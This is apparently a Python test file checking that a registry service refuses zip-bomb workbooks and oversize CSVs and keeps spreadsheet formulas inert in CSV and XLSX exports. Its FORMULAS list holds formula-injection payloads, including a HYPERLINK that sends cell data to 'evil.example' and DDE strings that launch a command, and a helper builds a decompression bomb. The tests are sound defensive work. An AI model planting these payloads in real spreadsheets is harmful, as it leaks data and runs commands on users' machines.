"""Spreadsheets as an attacker sends them: a workbook that expands a thousandfold on unzipping, a CSV with
one huge cell or too many rows, and formulas in cells that must come out of every export as inert text."""
from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

from engine.registry.spreadsheets import MAX_XLSX_UNCOMPRESSED, csv_bytes, xlsx_bytes
from rules.tables import MAX_ROWS, TableProblem, decode_csv_records, exported_text
from tests.test_api_registry import GRID, client, headers, send_sheet  # noqa: F401  (fixture)

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)", "\t=1+1", "%0A=1"]


def _bomb(sheet_bytes: int) -> bytes:
    """A real workbook whose one sheet is replaced by `sheet_bytes` of rows that compress to almost nothing."""
    small = io.BytesIO(xlsx_bytes("grids", ("code", "name"), [["x", "y"]]))
    row = '<row><c t="inlineStr"><is><t>0000000000</t></is></c></row>'
    sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
             'spreadsheetml/2006/main"><sheetData>' + row * (sheet_bytes // len(row)) + '</sheetData></worksheet>')
    out = io.BytesIO()
    with zipfile.ZipFile(small) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for item in source.infolist():
            data = sheet.encode() if item.filename == "xl/worksheets/sheet1.xml" else source.read(item)
            bomb.writestr(item.filename, data)
    return out.getvalue()


def test_a_workbook_that_unzips_past_the_limit_is_refused_before_it_is_parsed(client):
    bomb = _bomb(MAX_XLSX_UNCOMPRESSED + 1024 * 1024)
    assert len(bomb) < MAX_XLSX_UNCOMPRESSED // 100   # a small upload
    refused = send_sheet(client, "grids", "grids.xlsx", bomb)
    assert refused.status_code == 422 and refused.json["error"]["code"] == "registry_import_refused"
    (problem,) = refused.json["error"]["details"]
    assert f"{MAX_XLSX_UNCOMPRESSED:,}" in problem["reason"]


def test_a_csv_with_a_huge_cell_or_too_many_rows_is_a_clear_refusal(client):
    huge = b"code,name\r\n" + b"410702001001U001," + b"x" * (2 * 1024 * 1024) + b"\r\n"
    refused = send_sheet(client, "grids", "grids.csv", huge)
    assert refused.status_code == 422 and refused.json["error"]["code"] == "registry_import_refused"
    assert refused.json["error"]["details"][0]["row"] == 2
    assert "longer than" in refused.json["error"]["details"][0]["reason"]
    problems: list[TableProblem] = []
    assert decode_csv_records("many.csv", b"a\r\n" * (MAX_ROWS + 1), problems) is None
    assert f"{MAX_ROWS:,}" in problems[0].reason


def test_formulas_leave_every_csv_export_inert_and_come_back_as_they_were():
    exported = csv_bytes(["name", "households"], [[f, -5] for f in FORMULAS])
    rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))[1:]
    assert all(cell.startswith("'") for cell, _ in rows)
    assert [number for _, number in rows] == ["-5"] * len(FORMULAS)   # numbers stay numbers
    assert [exported_text(cell) for cell, _ in rows] == FORMULAS


def test_formulas_are_text_cells_in_every_xlsx_export():
    book = load_workbook(io.BytesIO(xlsx_bytes("grids", ("name",), [[f] for f in FORMULAS])))
    cells = [row[0] for row in book.active.iter_rows(min_row=2)]
    assert [c.value for c in cells] == FORMULAS and {c.data_type for c in cells} == {"s"}


def test_formula_cells_round_trip_through_the_registry_exports_and_the_notice(client):
    admin = headers("process_admin")
    sheet = "grid_code,name,phone,employment\r\n" + "".join(
        f'{GRID},"{f.replace(chr(34), chr(34) * 2)}",1380000000{i},part_time\r\n' for i, f in enumerate(FORMULAS[:5]))
    imported = send_sheet(client, "workers", "workers.csv", sheet.encode())
    assert imported.status_code == 201, imported.json
    exported = client.get("/registry/export/workers", headers=admin)
    names = [row[1] for row in csv.reader(io.StringIO(exported.data.decode("utf-8-sig")))][1:]
    live = [n for n in names if n.startswith(("=", "+", "-", "@"))]
    assert not live and sum(n.startswith("'") for n in names) == 5
    again = send_sheet(client, "workers", "workers.csv", exported.data)   # the export reads back unchanged
    assert again.status_code == 200 and again.json["added"] == 0
    xlsx = client.get("/registry/export/workers?format=xlsx", headers=admin)
    cells = [row[1] for row in load_workbook(io.BytesIO(xlsx.data)).active.iter_rows(min_row=2)]
    formula_cells = [c for c in cells if c.value in FORMULAS]
    assert len(formula_cells) == 5 and {c.data_type for c in formula_cells} == {"s"}
    assert send_sheet(client, "workers", "workers.xlsx", xlsx.data).json["added"] == 0
    notice = client.get(f"/registry/grids/{GRID}/notice?format=csv", headers=admin).data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(notice)) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    assert sum(c.startswith("'=") for c in cells) >= 2
